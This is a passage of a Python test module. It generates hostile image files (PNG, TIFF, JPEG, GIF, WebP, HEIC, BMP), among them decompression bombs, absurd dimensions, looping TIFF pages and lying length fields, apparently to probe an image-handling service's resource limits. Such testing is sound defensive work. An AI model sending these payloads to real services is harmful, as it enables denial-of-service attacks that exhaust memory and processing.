# ---------------------------------------------------------------- pictures


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def _png(width: int, height: int, *chunks: bytes, data: bytes = b"") -> bytes:
    head = _chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + b"".join(chunks) + _chunk(b"IDAT", data) + _chunk(b"IEND", b"")


def _bmp(width: int, height: int, dots: bytes) -> bytes:
    return (
        struct.pack(
            "<2sIIIIiiHHIIiiII", b"BM", 54 + len(dots), 0, 54, 40, width, height, 1, 8, 0, len(dots), 0, 0, 0, 0
        )
        + dots
    )


def _directory(tags: Mapping[int, int], at: int, following: int, order: str = "<") -> bytes:
    entries = b"".join(struct.pack(f"{order}HHII", tag, 4, 1, value) for tag, value in sorted(tags.items()))
    return struct.pack(f"{order}H", len(tags)) + entries + struct.pack(f"{order}I", following)


_FAX = {256: 2_000, 257: 2_800, 258: 1, 259: 1, 262: 0, 273: 8, 278: 2_800, 279: 700_000}


def _tiff(
    pages: Iterator[tuple[Mapping[int, int], int]] | Iterable[tuple[Mapping[int, int], int]], body: bytes = b""
) -> bytes:
    out = bytearray(b"II*\0" + struct.pack("<I", 8 + len(body)) + body)
    for tags, following in pages:
        size = 6 + 12 * len(tags)
        out += _directory(tags, len(out), following if following >= 0 else len(out) + size)
    return bytes(out)


@attack("png")
def png_of_a_wall() -> bytes:
    """Sixty thousand dots wide and high, in one kilobyte."""
    return _png(60_000, 60_000, data=zlib.compress(bytes(MEBIBYTE)))


@attack("png")
def png_just_below_the_limit() -> bytes:
    """A picture of eighty million dots that are all there."""
    return _png(9_000, 8_900, data=zlib.compress(bytes(9_000 * 8_900 * 3 + 8_900), 9))


@attack("png")
def png_of_texts() -> bytes:
    """A hundred thousand pieces of text."""
    return _png(900, 900, _chunk(b"tEXt", b"a\0b") * 100_000)


@attack("png")
def png_of_packed_texts() -> bytes:
    """A piece of text that unpacks to a hundred megabytes."""
    return _png(900, 900, _chunk(b"zTXt", b"a\0\0" + zlib.compress(bytes(100 * MEBIBYTE), 9)))


@attack("png")
def png_of_no_size() -> bytes:
    """No dots at all, and pieces that are longer than the file."""
    return _png(0, 0)[:-20] + struct.pack(">I", 0x7FFFFFFF) + b"IDAT"


@attack("png")
def png_of_frames() -> bytes:
    """Says that it moves, in four billion frames."""
    return _png(900, 900, _chunk(b"acTL", struct.pack(">II", 0xFFFFFFFF, 0)), data=zlib.compress(bytes(900 * 2701)))


@attack("tiff")
def tiff_in_a_circle() -> bytes:
    """A page that is followed by itself."""
    return _tiff([(_FAX, 8 + 700_000)], bytes(700_000))


@attack("tiff")
def tiff_of_ten_thousand_pages() -> bytes:
    """Ten thousand pages of a fax that share their dots."""
    return _tiff([*[(_FAX, -1)] * 9_999, (_FAX, 0)], bytes(700_000))


@attack("tiff")
def tiff_of_a_wall() -> bytes:
    """A page of four billion dots by four billion."""
    return _tiff([({**_FAX, 256: 0xFFFFFFFF, 257: 0xFFFFFFFF}, 0)], bytes(1_000))


@attack("tiff")
def tiff_of_walls_behind() -> bytes:
    """A first page of usual size, and walls on those behind it."""
    wall = {**_FAX, 256: 60_000, 257: 60_000, 278: 60_000, 279: 450_000_000}
    return _tiff([(_FAX, -1), (wall, -1), (wall, -1), (wall, 0)], bytes(700_000))


@attack("tiff")
def tiff_of_sixty_thousand_tags() -> bytes:
    """Pages with as many tags as can be, each of which lies elsewhere."""
    tags = dict.fromkeys(range(1000, 60000), 8)
    return _tiff([({**_FAX, **tags}, 0)], bytes(700_000))


@attack("tiff")
def tiff_of_endless_values() -> bytes:
    """Tags of four billion values."""
    entry = struct.pack("<HHII", 273, 4, 0x3FFFFFFF, 8) * 10
    return b"II*\0" + struct.pack("<IH", 8, 10) + entry + bytes(100)


@attack("tiff")
def tiff_behind_its_end() -> bytes:
    """A first page that lies behind the end of the file."""
    return b"MM\0*" + struct.pack(">I", 0x7FFFFFFF) + bytes(100)


@attack("jpg")
def jpeg_of_a_wall() -> bytes:
    """Sixty-five thousand dots wide and high, and nothing behind the head."""
    frame = b"\xff\xc0" + struct.pack(">HBHHB", 17, 8, 65_500, 65_500, 3) + b"\1\x11\0\2\x11\0\3\x11\0"
    return b"\xff\xd8" + frame + b"\xff\xd9"


@attack("jpg")
def jpeg_of_scans() -> bytes:
    """A progressive picture of ten thousand passes over every dot."""
    frame = b"\xff\xc2" + struct.pack(">HBHHB", 11, 8, 8_000, 8_000, 1) + b"\1\x11\0"
    table = b"\xff\xc4" + struct.pack(">H", 20) + b"\x10\1" + bytes(15) + b"\0"
    quantity = b"\xff\xdb" + struct.pack(">H", 67) + b"\0" + b"\1" * 64
    return (
        b"\xff\xd8"
        + quantity
        + frame
        + table
        + (b"\xff\xda" + struct.pack(">HB", 8, 1) + b"\1\0\x01\x3f\0") * 10_000
        + b"\xff\xd9"
    )


@attack("jpg")
def jpeg_whose_metadata_lie() -> bytes:
    """Metadata whose tags lie behind the end and in each other."""
    tags = struct.pack("<HHII", 0x8769, 4, 1, 8) + struct.pack("<HHII", 0x0112, 3, 0x7FFFFFFF, 0x7FFFFFFF)
    exif = b"Exif\0\0II*\0" + struct.pack("<IH", 8, 2) + tags + struct.pack("<I", 8)
    frame = b"\xff\xc0" + struct.pack(">HBHHB", 11, 8, 900, 900, 1) + b"\1\x11\0"
    return b"\xff\xd8\xff\xe1" + struct.pack(">H", len(exif) + 2) + exif + frame + b"\xff\xd9"


@attack("jpg")
def jpeg_of_no_lengths() -> bytes:
    """Segments that say they have no length."""
    return b"\xff\xd8" + b"\xff\xe1\0\0" * 200_000


@attack("gif")
def gif_of_a_wall() -> bytes:
    """Sixty-five thousand dots wide and high, in ten thousand frames."""
    frame = b"," + struct.pack("<HHHHB", 0, 0, 65_535, 65_535, 0) + b"\2\1\0\0"
    return b"GIF89a" + struct.pack("<HHBBB", 65_535, 65_535, 0, 0, 0) + frame * 10_000 + b";"


def _riff(*chunks: tuple[bytes, bytes]) -> bytes:
    body = b"WEBP" + b"".join(
        kind + struct.pack("<I", len(data)) + data + b"\0" * (len(data) % 2) for kind, data in chunks
    )
    return b"RIFF" + struct.pack("<I", len(body)) + body


@attack("webp")
def webp_of_a_wall() -> bytes:
    """Sixteen thousand dots wide and high, as an animation."""
    canvas = b"\x02\0\0\0" + (16_383).to_bytes(3, "little") * 2
    return _riff(
        (b"VP8X", canvas),
        (b"ANIM", bytes(6)),
        (b"ANMF", bytes(16) + b"VP8L" + struct.pack("<I", 5) + b"\x2f\xff\xff\xff\x0f"),
    )


@attack("webp")
def webp_that_lies() -> bytes:
    """Pieces that say they are four gigabytes long."""
    return b"RIFF\xff\xff\xff\xffWEBPVP8L\xff\xff\xff\xff\x2f\xff\xff\xff\x0f" + bytes(100)


def _box(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data) + 8) + kind + data


@attack("heic")
def heic_of_a_wall() -> bytes:
    """A photo that says it has four billion dots a side."""
    size = _box(b"ispe", struct.pack(">III", 0, 0xFFFFFFFF, 0xFFFFFFFF))
    return _box(b"ftyp", b"heic\0\0\0\0mif1") + _box(b"meta", bytes(4) + _box(b"iprp", _box(b"ipco", size)))


@attack("heic")
def heic_of_boxes() -> bytes:
    """Boxes in boxes, five thousand deep, and boxes of no length."""
    content = b""
    for _ in range(2_000):
        content = _box(b"meta", bytes(4) + content)
    return _box(b"ftyp", b"heic\0\0\0\0mif1") + content + b"\0\0\0\0meta"


@attack("bmp")
def bmp_of_a_wall() -> bytes:
    """Two billion dots wide, upside down."""
    return _bmp(0x7FFFFFFF, -0x7FFFFFFF, bytes(100))


@attack("bmp")
def bmp_of_runs() -> bytes:
    """Packed rows that go on and on beyond the edge."""
    head = bytearray(_bmp(8_000, 8_000, b"\xff\x00" * 50_000))
    head[30] = 1
    return bytes(head)
